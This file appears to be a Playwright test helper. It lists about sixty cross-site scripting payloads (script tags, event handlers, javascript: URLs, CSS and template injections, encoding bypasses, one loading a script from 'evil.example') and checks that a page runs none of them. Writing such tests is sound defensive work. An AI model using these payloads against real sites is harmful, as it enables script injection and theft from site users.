import type { Page } from '@playwright/test'
import { expect } from './test-server.ts'

const run = 'window.pwned=1,alert(1)'
const tags = [
  'svg',
  'body',
  'video',
  'audio',
  'details open',
  'marquee',
  'input autofocus',
  'select autofocus',
  'object',
  'iframe',
]
const handlers = [
  'onload',
  'onerror',
  'onfocus',
  'ontoggle',
  'onstart',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
]

/** Texts that run as scripts if they are treated as markup, an address, a style or a template. */
export const hostileTexts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=data:,${run}></script>`,
  `<script src="//evil.example/x.js"></script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img src=x:x onerror=\`${run}\`>`,
  `"><img src=x onerror=${run}>`,
  `' onerror='${run}' src='x`,
  `<img/src/onerror=${run}>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="JaVaScRiPt:${run}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `javascript:${run}`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="javascript:/a/-${run}///////">`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<style>@import'javascript:${run}';</style>`,
  `<style>*{background:url("javascript:${run}")}</style>`,
  `<div style="width:expression(${run})">x</div>`,
  `<div style="background-image:url(javascript:${run})">x</div>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<xmp><p title="</xmp><svg/onload=${run}>">`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\u202E<script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `__proto__[innerHTML]=<img src=x onerror=${run}>`,
  `"}]};${run};//`,
  ...tags.map((tag, at) => `<${tag} src=x ${handlers[at % handlers.length]}=${run}>`),
]

/** Watches a page for any effect of a hostile text. */
export async function watchForScripts(page: Page) {
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await page.addInitScript({
    content: `window.violations = []; document.addEventListener('securitypolicyviolation', (event) =>
      window.violations.push(event.violatedDirective + ' ' + event.blockedURI))`,
  })
  return async function nothingRan() {
    expect(dialogs).toEqual([])
    expect(await page.evaluate('[window.pwned, window.violations]')).toEqual([undefined, []])
    expect(
      await page.locator('main :is(script, iframe, object, embed, base, meta, link, style, svg[onload])').count(),
    ).toBe(0)
  }
}
